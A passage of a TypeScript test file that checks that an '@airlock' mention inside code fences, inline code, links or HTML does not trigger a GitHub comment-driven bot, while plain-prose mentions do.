    ['35.11', '````\n```\n@airlock\n```\n````'],
    ['35.12', '```\nunclosed fence\n@airlock run'],
    ['35.13', 'Text\n\n    @airlock indented code'],
    ['35.14', '``a ` @airlock``'],
    ['35.15', '[ref]: https://example.com "@airlock"'],
    ['35.16', '<a href="https://example.com">@airlock</a>'],
    ['35.17', '<https://example.com/@airlock>']
  ]
  const TRIGGERS = [
    '@airlock fix this',
    '> quoted\n\n@airlock fix this',
    '- @airlock fix this',
    '# @airlock fix this',
    '**@airlock** fix this',
    '```\ncode\n```\n@airlock after the fence'
  ]

  it.each(NOT_TRIGGERS)('%s %j does not trigger', async (id, body) => {
    const client = new GitHubClient({ token: TOKEN, apiUrl: gh.url, secondMs: 0 })
    gh.permissions.set('mona', { role_name: 'write', permission: 'write' })
    const before = gh.calls.length
    const d = await evaluateGate(
      client,
      contextFor('issue_comment.created.issue', (e) => {
        ;(e.comment as { body: string }).body = body
      }),
      { mode: 'respond' }
    )
    const problems: string[] = []
    if (d.run) problems.push('the gate said run')
    if (gh.calls.length !== before) problems.push('the gate called GitHub')
    for (const t of TRIGGERS)
      if (!hasTrigger(t, '@airlock')) problems.push(`control ${JSON.stringify(t)} did not trigger`)
    record(
      id,
      35,
      `a comment whose \`@airlock\` is not the author's own words: ${show(body.replace(/\n/g, '⏎'), 70)}`,
      problems,
      'no run (the trigger is not in the author’s prose)'
    )
    expect(problems).toEqual([])
  })
})
